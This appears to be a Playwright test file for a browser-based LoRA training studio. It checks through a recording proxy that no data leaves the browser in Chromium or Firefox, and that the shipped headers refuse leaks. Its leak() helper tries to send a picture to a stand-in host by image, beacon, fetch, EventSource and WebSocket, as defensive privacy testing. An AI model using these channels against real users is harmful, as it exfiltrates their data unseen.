/**
 * From the address to a LoRA file, as someone who has never trained: in Chromium, in a folder of a host that sends no
 * headers, and in Firefox on the tier that computes in half precision; with everything that leaves the browser recorded.
 */
import { resolve } from 'node:path';
import { chromium, expect, test, type Browser, type Page } from '@playwright/test';
import { serve } from '../tools/serve/server';
import { expectKohyaLora, trainAsNewcomer } from './newcomer';
import { inChromium, inFirefox } from './person';
import { openRecorder, VENDOR_ELSEWHERE, type Recorder, type RecorderOptions } from './recorder';

test.setTimeout(1_500_000);

/** A place that is not the studio's. Nobody is there: what is for it ends at the recorder. */
const ELSEWHERE = 'elsewhere.test';

/** What Firefox asks its maker for of its own accord, whatever page is open; a release lets no setting turn it elsewhere. */
const FIREFOX_OWN = 'CONNECT firefox.settings.services.mozilla.com:443';

test('nothing is sent over the whole journey, in a folder of a host that sends no headers', async () => {
  const host = await serve(resolve('dist'), { rules: [], port: 0, under: '/someone/lora-studio/' });
  try {
    // What is beside the folder counts as elsewhere.
    await recorded(host.address.slice(0, -1), {}, async (page, recorder) => {
      let loads = 0;
      page.on('load', () => loads++);
      const trained = await trainAsNewcomer(inChromium(page), host.address);
      expectKohyaLora(trained);
      expect(trained.log).toContain(', f32');
      expect(loads).toBe(2);
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      expect(recorder.passed()).toBeGreaterThan(40);
      expect(recorder.others).toEqual([]);
      await expect(page.getByRole('definition').filter({ hasText: '0 bytes' })).toBeVisible();
      await leak(page);
      expect(recorder.others).toEqual([]);
      await expect(page.getByRole('definition').filter({ hasText: /tries, blocked/ })).toBeVisible();
    });
  } finally {
    await host.close();
  }
});

test('a leak would be recorded, and the headers that ship refuse it', async () => {
  await recorded(studio(), { withoutHeaders: true }, async (page, recorder) => {
    // The page has its policy in itself too: a document that has none.
    await page.goto(`${studio()}/demo/sets.json`);
    expect(recorder.others).toEqual([]);
    await leak(page);
    for (const way of [
      `POST http://${ELSEWHERE}/fetch`,
      `GET http://${ELSEWHERE}/image`,
      `POST http://${ELSEWHERE}/beacon`,
      `GET http://${ELSEWHERE}/events`,
      `CONNECT ${ELSEWHERE}:80`,
      `CONNECT ${ELSEWHERE}:443`,
    ])
      expect(recorder.others).toContain(way);
  });
  await recorded(studio(), {}, async (page, recorder) => {
    await opened(page);
    await leak(page);
    expect(recorder.passed()).toBeGreaterThan(5);
    expect(recorder.others).toEqual([]);
    await expect(page.getByRole('definition').filter({ hasText: /tries, blocked/ })).toBeVisible();
  });
});

test('nothing is sent in Firefox either, which computes in half precision', async () => {
  const recorder = await openRecorder(studio());
  try {
    const trained = await inFirefox((person) => trainAsNewcomer(person, studio()), recorder.address);
    expectKohyaLora(trained);
    // Firefox withholds the adapter's name, which stands before it elsewhere.
    expect(trained.log).toMatch(/; f16$/m);
    expect(recorder.passed()).toBeGreaterThan(40);
    expect(recorder.others.filter((each) => each !== FIREFOX_OWN)).toEqual([]);
  } finally {
    await recorder.close();
  }
});

function studio(): string {
  return test.info().project.use.baseURL ?? '';
}

/** A Chromium of its own, all of whose connections go through a recorder. */
async function recorded(
  origin: string,
  options: RecorderOptions,
  journey: (page: Page, recorder: Recorder) => Promise<void>,
): Promise<void> {
  const recorder = await openRecorder(origin, options);
  let browser: Browser | undefined;
  try {
    const { launchOptions } = test.info().project.use;
    browser = await chromium.launch({
      ...launchOptions,
      args: [...(launchOptions?.args ?? []), ...VENDOR_ELSEWHERE],
      // Loopback addresses too.
      proxy: { server: recorder.address, bypass: '<-loopback>' },
    });
    const page = await browser.newPage();
    // As in a browser without the system's save dialog, which no test can operate.
    await page.addInitScript(() => Reflect.deleteProperty(window, 'showSaveFilePicker'));
    await journey(page, recorder);
  } finally {
    await browser?.close();
    await recorder.close();
  }
}

async function opened(page: Page): Promise<void> {
  await page.goto(studio());
  await expect(page.getByRole('button', { name: 'Choose pictures' })).toBeEnabled();
}

/** Every way in which a script could send a picture away. */
async function leak(page: Page): Promise<void> {
  await page.evaluate(async (host) => {
    const picture = 'a picture';
    new Image().src = `http://${host}/image`;
    navigator.sendBeacon(`http://${host}/beacon`, picture);
    const tries: Promise<unknown>[] = [
      fetch(`http://${host}/fetch`, { mode: 'no-cors', method: 'POST', body: picture }),
      fetch(`https://${host}/fetch`, { mode: 'no-cors', method: 'POST', body: picture }),
    ];
    for (const open of [
      () => new EventSource(`http://${host}/events`),
      () => new WebSocket(`ws://${host}/`),
    ]) {
      tries.push(
        new Promise((resolve) => {
          const source = open();
          source.onerror = resolve;
        }),
      );
    }
    await Promise.allSettled(tries);
  }, ELSEWHERE);
  // A beacon says nothing of its end.
  await page.waitForTimeout(1000);
}
